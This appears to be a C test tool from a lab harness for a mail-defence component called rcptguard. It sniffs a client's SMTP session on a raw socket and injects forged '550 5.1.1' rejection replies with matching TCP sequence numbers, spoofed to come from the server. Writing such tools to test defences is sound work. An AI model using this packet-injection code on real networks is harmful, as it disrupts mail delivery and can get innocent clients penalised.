/* forge IFACE DST_MAC CLIENT SERVER SECONDS: the forged-reply attack.
 *
 * Runs on the client's side of the lab. It watches the client's SMTP
 * connection on IFACE and, for every RCPT the client sends, injects a
 * "550 5.1.1" reply that claims to come from SERVER:25, with exactly the
 * sequence and acknowledgement numbers the real reply will carry, sent
 * toward the server's host (DST_MAC). Were rcptguard to believe replies
 * that arrive from outside, each would count as a rejected recipient
 * against the innocent client. Prints how many it injected. */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "pcapw.h"

static int64_t now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static uint32_t rd32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

int main(int argc, char **argv)
{
	struct sockaddr_ll sll = { 0 };
	uint8_t dst_mac[6], buf[65536], frame[512];
	struct in_addr cli, srv;
	unsigned m[6];
	int fd, injected = 0;
	int64_t deadline;
	uint32_t srv_next = 0;
	int have_srv = 0;

	if (argc != 6 || sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6 ||
	    inet_pton(AF_INET, argv[3], &cli) != 1 || inet_pton(AF_INET, argv[4], &srv) != 1) {
		fprintf(stderr, "usage: forge IFACE DST_MAC CLIENT4 SERVER4 SECONDS\n");
		return 2;
	}
	for (int i = 0; i < 6; i++)
		dst_mac[i] = (uint8_t)m[i];
	/* ETH_P_ALL: a socket bound to one protocol sees only what arrives;
	 * the client's own RCPTs leave. */
	fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (fd < 0) {
		perror("forge: socket");
		return 1;
	}
	sll.sll_family = AF_PACKET;
	sll.sll_protocol = htons(ETH_P_ALL);
	sll.sll_ifindex = (int)if_nametoindex(argv[1]);
	if (!sll.sll_ifindex || bind(fd, (struct sockaddr *)&sll, sizeof(sll)) < 0) {
		perror("forge: bind");
		return 1;
	}
	deadline = now_ms() + 1000 * atol(argv[5]);
	while (now_ms() < deadline) {
		struct pollfd pfd = { .fd = fd, .events = POLLIN };
		ssize_t n;
		const uint8_t *ip, *tcp, *data;
		uint32_t ihl, doff, len, seq;

		if (poll(&pfd, 1, 100) != 1)
			continue;
		n = recv(fd, buf, sizeof(buf), 0);
		if (n < 14 + 20 + 20)
			continue;
		ip = buf + 14;
		if (buf[12] != 0x08 || buf[13] != 0x00 || (ip[0] >> 4) != 4 || ip[9] != 6)
			continue;
		ihl = (uint32_t)(ip[0] & 15) * 4;
		tcp = ip + ihl;
		doff = (uint32_t)(tcp[12] >> 4) * 4;
		len = (uint32_t)(ip[2] << 8 | ip[3]) - ihl - doff;
		data = tcp + doff;
		seq = rd32(tcp + 4);
		if (!memcmp(ip + 12, &srv, 4) && tcp[0] == 0 && tcp[1] == 25) {
			/* The server's next sequence number, from its own packets. */
			srv_next = seq + len + ((tcp[13] & 0x03) ? 1 : 0);
			have_srv = 1;
			continue;
		}
		if (memcmp(ip + 12, &cli, 4) || tcp[2] != 0 || tcp[3] != 25 || !have_srv)
			continue;
		if (len < 4 || (memcmp(data, "RCPT", 4) && memcmp(data, "rcpt", 4)))
			continue;
		{
			struct tcpsess s;
			char cport[8];
			const char *reply = "550 5.1.1 <victim@example.org>: Recipient address rejected\r\n";
			uint32_t fl;
			uint16_t port = (uint16_t)(tcp[0] << 8 | tcp[1]);

			snprintf(cport, sizeof(cport), "%u", port);
			sess_init(&s, NULL, NULL, PW_EN10MB, argv[3], port, argv[4], 25, 0, 0);
			fl = sess_build(&s, SRV, 0x18, srv_next, seq + len, reply, (uint32_t)strlen(reply), frame);
			memcpy(frame, dst_mac, 6);
			if (send(fd, frame, fl, 0) == (ssize_t)fl)
				injected++;
		}
	}
	printf("injected=%d\n", injected);
	return 0;
}
